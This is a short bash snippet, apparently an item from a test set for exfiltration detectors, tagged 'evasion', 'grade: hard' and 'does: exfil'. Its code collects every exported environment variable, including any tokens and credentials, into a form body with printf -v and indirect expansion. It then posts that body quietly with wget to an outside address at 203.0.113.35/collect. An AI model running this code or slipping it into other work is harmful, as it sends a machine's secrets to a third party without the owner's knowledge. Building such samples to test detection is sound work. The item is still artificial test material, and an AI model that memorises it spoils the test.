# evasion: exported names from compgen -A export, values through ${!n}, gathered with printf -v and posted by wget
# grade: hard; does: exfil
body=
for n in $(compgen -A export); do
	printf -v body '%s%s=%s&' "$body" "$n" "${!n}"
done
wget -q -O /dev/null --post-data="$body" http://203.0.113.35/collect
